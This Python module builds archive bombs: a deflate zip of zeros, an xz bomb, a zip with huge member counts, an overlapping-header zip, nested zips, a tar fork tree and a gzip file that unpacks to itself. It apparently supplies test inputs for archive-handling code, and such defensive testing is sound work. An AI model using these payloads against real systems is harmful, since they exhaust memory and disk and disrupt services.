"""Containers made to exhaust whoever opens them. Each is small itself."""

from __future__ import annotations

import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable


def deflate_bomb(unpacked: int) -> bytes:
    """A zip with one member of `unpacked` zeros."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros", "w", force_zip64=True) as out,
    ):
        for _ in range(unpacked >> 20):
            out.write(bytes(1 << 20))
    return made.getvalue()


def xz_bomb(unpacked: int) -> bytes:
    compressor = lzma.LZMACompressor(preset=0)
    return b"".join([*(compressor.compress(bytes(1 << 20)) for _ in range(unpacked >> 20)), compressor.flush()])


def many_members(count: int) -> bytes:
    """`count` empty stored members."""
    local, central = [], []
    at = 0
    for number in range(count):
        name = b"%07d" % number
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0)
        local.append(b"PK\3\4" + fields + name)
        central.append(b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, at) + name)
        at += len(local[-1])
    return _with_end(b"".join(local), b"".join(central), count)


def overlapping(count: int, unpacked: int) -> bytes:
    """`count` members whose local headers are followed by the same compressed zeros: each header but the last has an
    extra field that covers the headers behind it."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(unpacked)
    body = compressor.compress(zeros) + compressor.flush()
    size = 30 + 4
    local, central = [], []
    for number in range(count):
        extra = min(size * (count - 1 - number), 0xFFFF // size * size)
        behind = size * (count - 1 - number) - extra
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, zlib.crc32(zeros), len(body) + behind, unpacked)
        name = b"%04d" % number
        local.append(b"PK\3\4" + fields + struct.pack("<HH", 4, extra) + name)
        central.append(
            b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHHHII", 4, 0, 0, 0, 0, 0, size * number) + name
        )
    return _with_end(b"".join(local) + body, b"".join(central), count)


def nested(depth: int) -> bytes:
    """Zip in zip, `depth` deep."""
    content, name = b"MZ the innermost", "inner.exe"
    for level in range(depth):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, content)
        content, name = made.getvalue(), f"{level}.zip"
    return content


def fork_tree(width: int, depth: int) -> bytes:
    """Each archive holds `width` archives, `depth` deep."""
    content = b"leaf"
    for _ in range(depth):
        made = io.BytesIO()
        with tarfile.open(fileobj=made, mode="w:gz") as archive:
            for number in range(width):
                info = tarfile.TarInfo(f"{number}.tgz")
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
        content = made.getvalue()
    return content


def quine() -> bytes:
    """A gzip file that unpacks to itself, for ever (R. Cox, Zip Files All The Way Down, 2010)."""
    for name in range(ord("a"), ord("z")):
        head = b"\x1f\x8b\x08\x08\0\0\0\0\0\xff" + bytes([name, 0])
        size = len(_self_unpacking(head, bytes(8)))
        fixed = _fixed_point(lambda checksum: _self_unpacking(head, struct.pack("<II", checksum, size)))  # noqa: B023
        if fixed is not None:
            return fixed
    raise AssertionError("no file name has a checksum that is its own")


def _self_unpacking(head: bytes, trailer: bytes) -> bytes:
    """Every step is 5 bytes long; a copied step is followed by what it copies, so that the output is the program."""
    tail = b"\1\0\0\xff\xff" + trailer
    again_head, again_tail, again = _repeat(len(head) + 5), _repeat(len(tail) + 5), _repeat(20)
    copy_head, copy_tail, one, four, none = map(_copy, (len(head) + 5, len(tail) + 5, 5, 20, 0))
    return b"".join(
        (
            *(head, copy_head, head, copy_head, again_head, one, again_head, one, one),
            *(four, again_head, one, one, four, again),
            *(four, again, four, again, four, again),
            *(four, again, none, none, copy_tail, again, none, none),
            *(copy_tail, again_tail, tail, again_tail, tail),
        )
    )


def _copy(count: int) -> bytes:
    """A stored block (RFC 1951 section 3.2.4): the next `count` bytes come out as they are."""
    return struct.pack("<BHH", 0, count, count ^ 0xFFFF)


def _repeat(count: int) -> bytes:
    """A block that puts out the last `count` bytes, 17 to 20, once more: two matches in fixed codes (section 3.2.6)."""
    bits = "010"  # not the last block; fixed codes, low bit first
    for length in (10, count - 10):
        bits += f"{length - 2:07b}" + "01000" + f"{count - 17:03b}"[::-1]
    bits += "0000000"
    return int(bits[::-1], 2).to_bytes(5, "little")


def _fixed_point(file: Callable[[int], bytes]) -> bytes | None:
    """The file that holds its own checksum: CRC-32 is affine, so that is a system of 32 equations over one bit each."""
    constant = zlib.crc32(file(0))
    rows: dict[int, tuple[int, int]] = {}  # by highest bit: an image and the checksum bits that make it
    for bit in range(32):
        image, made_of = zlib.crc32(file(1 << bit)) ^ constant ^ 1 << bit, 1 << bit
        while image and image.bit_length() in rows:
            other, others = rows[image.bit_length()]
            image, made_of = image ^ other, made_of ^ others
        if image:
            rows[image.bit_length()] = image, made_of
    rest, checksum = constant, 0
    while rest:
        if rest.bit_length() not in rows:
            return None
        image, made_of = rows[rest.bit_length()]
        rest, checksum = rest ^ image, checksum ^ made_of
    return file(checksum)


def _with_end(local: bytes, central: bytes, count: int) -> bytes:
    shown = min(count, 0xFFFF)
    return local + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, shown, shown, len(central), len(local), 0)
